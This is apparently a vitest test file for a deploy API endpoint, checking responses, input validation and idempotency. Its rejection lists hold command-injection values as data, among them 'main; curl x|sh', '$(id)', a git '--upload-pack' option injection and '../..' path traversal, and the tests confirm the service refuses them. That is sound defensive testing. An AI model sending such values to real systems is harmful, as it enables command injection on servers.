import { expect } from "vitest";
import { sharedHarness } from "../support/service/shared-harness.ts";
import { hazard, verifies } from "../support/verifies.ts";

const service = sharedHarness();
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

verifies(
  [
    "rest.deploy.201",
    "rest.deploy.response.app_id",
    "rest.deploy.response.slug",
    "rest.deploy.response.app_token",
    "rest.deploy.response.url",
    "rest.deploy.customization.optional",
  ],
  "201 returns the app's id, slug, token and URL, and no other field",
  async () => {
    const { rest } = await service().tenant();
    const response = await rest.deploy({ repo: "acme/site" });
    expect(response.status).toBe(201);
    expect(response.body).toEqual({
      app_id: expect.stringMatching(UUID),
      slug: expect.stringMatching(/^site-[a-z0-9]{6}$/),
      app_token: expect.stringMatching(/^sva_[0-9A-Za-z]{49}$/),
      url: expect.stringMatching(/^http:\/\/site-[a-z0-9]{6}\.localhost:\d+$/),
    });
    expect(String(response.body["url"])).toContain(String(response.body["slug"]));
  },
);

verifies(
  ["apps.state.created", "rest.deploy.branch.default"],
  "201 records the app as queued, with a first deployment of the branch main",
  async () => {
    const tenant = await service().tenant();
    const { body } = await tenant.rest.deploy({ repo: "acme/site" });
    const app = await tenant.rest.get(`/v1/apps/${String(body["app_id"])}`);
    expect(app.body).toMatchObject({ name: "site", status: "queued", manifest: null, error: null });
    const [deployment] = await service()
      .service.parts.orm.em.fork()
      .execute('select branch, branch_is_default, number, "trigger" from deployments where app_id = ?', [
        body["app_id"],
      ]);
    expect(deployment).toEqual({ branch: "main", branch_is_default: true, number: 1, trigger: "deploy" });
  },
);

verifies(
  ["rest.json", "rest.deploy.branch.given"],
  "201 accepts the branch of the request, and the response is JSON",
  async () => {
    const { rest } = await service().tenant();
    const response = await rest.deploy({ repo: "acme/site", branch: "feature/größe" });
    expect(response.status).toBe(201);
    expect(response.headers.get("content-type")).toMatch(/^application\/json/);
  },
);

const BAD_REPOS: [string, unknown][] = [
  ["missing", undefined],
  ["null", null],
  ["a number", 7],
  ["a list", ["acme/site"]],
  ["without a slash", "acme"],
  ["with two slashes", "acme/site/src"],
  ["with a line break", "acme/site\n"],
  ["a parent folder", "../.."],
  ["this folder", "./."],
  ["an owner and a parent folder", "acme/.."],
  ["an owner and .git", "acme/.git"],
  ["an option as owner", "-o/site"],
  ["a long option as owner", "--upload-pack/site"],
  ["5,000 characters", `acme/${"a".repeat(5000)}`],
  ["an owner of 40 characters", `${"a".repeat(40)}/site`],
];

for (const [description, repo] of BAD_REPOS) {
  verifies(
    [
      "rest.deploy.400",
      "rest.error.400",
      "rest.deploy.repo.required",
      "rest.deploy.repo.string",
      "rest.deploy.repo.pattern",
      hazard(1),
      hazard(2),
      hazard(3),
      hazard(4),
    ],
    `400 rejects a repo that is ${description}, says what is valid, and stores nothing`,
    async () => {
      const { rest } = await service().tenant();
      const response = await rest.deploy({ repo });
      expect(response.status).toBe(400);
      expect(response.body).toEqual({ error: expect.stringContaining("repo") });
      expect(response.text.length).toBeLessThan(600);
      expect((await rest.get("/v1/apps")).body).toEqual({ apps: [] });
    },
  );
}

const BAD_BRANCHES: [string, unknown][] = [
  ["a number", 7],
  ["blank", "   "],
  ["an option of git", "--upload-pack=touch /tmp/p;git-upload-pack"],
  ["a shell command", "main; curl x|sh"],
  ["a substitution", "$(id)"],
  ["backticks", "`id`"],
  ["two lines", "main\nnext"],
  ["a NUL", "main\u0000"],
  ["a reflog entry", "@{-1}"],
  ["an ancestor", "HEAD~1"],
  ["a range", "a..b"],
  ["a lock file", "x.lock"],
  ["a full ref", "refs/heads/main"],
  ["right-to-left text", "ma\u202ein"],
  ["256 bytes", "a".repeat(256)],
];

for (const [description, branch] of BAD_BRANCHES) {
  verifies(
    ["rest.deploy.branch.string", hazard(5), hazard(6), hazard(7), hazard(8), hazard(9)],
    `400 rejects a branch that is ${description}`,
    async () => {
      const { rest } = await service().tenant();
      const response = await rest.deploy({ repo: "acme/site", branch });
      expect(response.status).toBe(400);
      expect(response.body).toEqual({ error: expect.stringContaining("branch") });
      expect((await rest.get("/v1/apps")).body).toEqual({ apps: [] });
    },
  );
}

verifies("rest.deploy.customization.string", "400 rejects a customization that is not a string", async () => {
  const { rest } = await service().tenant();
  const response = await rest.deploy({ repo: "acme/site", customization: 7 });
  expect([response.status, response.body]).toEqual([400, { error: expect.stringContaining("customization") }]);
});

verifies(
  "rest.deploy.400",
  "400 rejects a customization without a language model, and says which setting configures one",
  async () => {
    const { rest } = await service().tenant();
    const response = await rest.deploy({ repo: "acme/site", customization: "make it blue" });
    const message = expect.stringMatching(/^customization needs a language model.*MODEL_PROVIDER/);
    expect([response.status, response.body]).toEqual([400, { error: message }]);
  },
);

verifies(hazard(20), "400 rejects a customization that is too long, blank, or has control characters", async () => {
  const { rest } = await service().tenant();
  const texts = ["x".repeat(20_001), "a\u0000b", "\u001b[31mred", "\ud800", "  "];
  const responses = await Promise.all(texts.map((customization) => rest.deploy({ repo: "acme/site", customization })));
  // Without a language model every customization is rejected, so only the message shows the reason.
  const reasons = ["at most 20000", "plain text", "plain text", "plain text", "is blank"];
  const expected = reasons.map((reason) => [400, { error: expect.stringContaining(reason) }]);
  expect(responses.map(({ status, body }) => [status, body])).toEqual(expected);
});

const BAD_BODIES: [string, string, number][] = [
  ["not JSON", "{repo:", 400],
  ["empty", "", 400],
  ["an array", `[{"repo": "acme/site"}]`, 400],
  ["a string", `"acme/site"`, 400],
  ["null", "null", 400],
  ["a prototype", `{"__proto__": {"repo": "acme/site"}}`, 400],
  ["10 MiB", JSON.stringify({ repo: "acme/site", branch: "x".repeat(10 * 1024 * 1024) }), 413],
];

for (const [description, body, status] of BAD_BODIES) {
  verifies(hazard(21), `${status} rejects a body that is ${description}`, async () => {
    const { rest } = await service().tenant();
    const response = await rest.send("POST", "/v1/apps/deploy", {
      body,
      headers: { "content-type": "application/json" },
    });
    expect([response.status, response.body]).toEqual([status, { error: expect.any(String) }]);
  });
}

verifies(hazard(21), "415 rejects a body of another content type", async () => {
  const { rest } = await service().tenant();
  const response = await rest.send("POST", "/v1/apps/deploy", {
    body: "repo=acme/site",
    headers: { "content-type": "text/plain" },
  });
  expect([response.status, response.body]).toEqual([415, { error: expect.stringContaining("application/json") }]);
});

verifies(hazard(21), "201 uses the last of two equal keys, as JSON parsers do", async () => {
  const { rest } = await service().tenant();
  const body = `{"repo": "acme/first", "repo": "acme/second"}`;
  const response = await rest.send("POST", "/v1/apps/deploy", {
    body,
    headers: { "content-type": "application/json" },
  });
  expect([response.status, response.body["slug"]]).toEqual([201, expect.stringMatching(/^second-/)]);
});

verifies(
  hazard(21),
  "400 rejects an incomplete body in any case of its media type, and ignores the query string",
  async () => {
    const { rest } = await service().tenant();
    for (const type of ["Application/JSON", "application/json; charset=UTF-8"]) {
      const init = { body: `{"branch": "main"}`, headers: { "content-type": type } };
      const response = await rest.send("POST", "/v1/apps/deploy?repo=acme/site", init);
      const error = expect.stringContaining("repo: missing. Send exactly one of repo, archive and files. ");
      expect([type, response.status, response.body]).toEqual([type, 400, { error }]);
    }
  },
);

verifies(hazard(22), "400 lists only the first unknown fields, however many the body has", async () => {
  const { rest } = await service().tenant();
  const many = Object.fromEntries(Array.from({ length: 5000 }, (_, n) => [`field${n}`, n]));
  const response = await rest.deploy({ repo: "acme/site", ...many });
  expect(response.status).toBe(400);
  expect(response.text.length).toBeLessThan(600);
});

verifies(hazard(22), "400 rejects a field that a caller may not set", async () => {
  const { rest, org_id } = await service().tenant();
  const response = await rest.deploy({ repo: "acme/site", org_id, status: "ready" });
  expect([response.status, response.body]).toEqual([
    400,
    { error: `unknown field "org_id", "status". This attempt counted: 4 of 5 are left.` },
  ]);
});

verifies(hazard(54), "201 gives each of 60 apps with the same name a slug of its own that is a DNS label", async () => {
  const tenants = await Promise.all(Array.from({ length: 12 }, () => service().tenant()));
  const name = `XN--${"Long.Name_".repeat(9)}`;
  const responses = await Promise.all(
    tenants.flatMap(({ rest }) => Array.from({ length: 5 }, () => rest.deploy({ repo: `acme/${name}` }))),
  );
  const slugs = responses.map((response) => String(response.body["slug"]));
  expect(responses.every((response) => response.status === 201)).toBe(true);
  expect(new Set(slugs).size).toBe(60);
  expect(slugs.every((slug) => /^(?!xn--)[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])$/.test(slug))).toBe(true);
});

verifies(
  ["rest.deploy.201", hazard(39), hazard(40)],
  "201 returns the same response for the same Idempotency-Key, and repeated calls do not count against the limit",
  async () => {
    const { rest } = await service().tenant();
    const headers = { "idempotency-key": "2f6a9c" };
    const first = await rest.deploy({ repo: "acme/site" }, headers);
    const again = await Promise.all(Array.from({ length: 8 }, () => rest.deploy({ repo: "acme/site" }, headers)));
    expect(again.map((response) => [response.status, response.body])).toEqual(
      Array.from({ length: 8 }, () => [201, first.body]),
    );
    expect(((await rest.get("/v1/apps")).body["apps"] as unknown[]).length).toBe(1);
  },
);

verifies(
  [hazard(37), hazard(39)],
  "201 creates one app for parallel calls with the same Idempotency-Key, also at the last slot of the plan",
  async () => {
    for (let round = 0; round < 5; round++) {
      const tenant = await service().tenant({ plan: "free" });
      for (let n = 0; n < 9; n++) await service().givenApp(tenant);
      const headers = { "idempotency-key": "2f6a9c" };
      const responses = await Promise.all(
        Array.from({ length: 4 }, () => tenant.rest.deploy({ repo: "acme/site" }, headers)),
      );
      expect(responses.map(({ status, body }) => [status, body["app_id"]])).toEqual(
        responses.map(() => [201, responses[0]?.body["app_id"]]),
      );
    }
  },
);

verifies(hazard(39), "409 rejects the Idempotency-Key of an app that was deleted", async () => {
  const { rest } = await service().tenant();
  const headers = { "idempotency-key": "2f6a9c" };
  const { body } = await rest.deploy({ repo: "acme/site" }, headers);
  await service().service.parts.orm.em.fork().execute("delete from apps where id = ?", [body["app_id"]]);
  const response = await rest.deploy({ repo: "acme/site" }, headers);
  expect([response.status, response.body]).toEqual([409, { error: expect.stringContaining("deleted") }]);
});

verifies(
  ["rest.deploy.400", hazard(39)],
  "422 rejects an Idempotency-Key that was used for a different request",
  async () => {
    const { rest } = await service().tenant();
    const headers = { "idempotency-key": "2f6a9c" };
    await rest.deploy({ repo: "acme/site" }, headers);
    const response = await rest.deploy({ repo: "acme/other" }, headers);
    expect([response.status, response.body]).toEqual([422, { error: expect.stringContaining("Idempotency-Key") }]);
  },
);
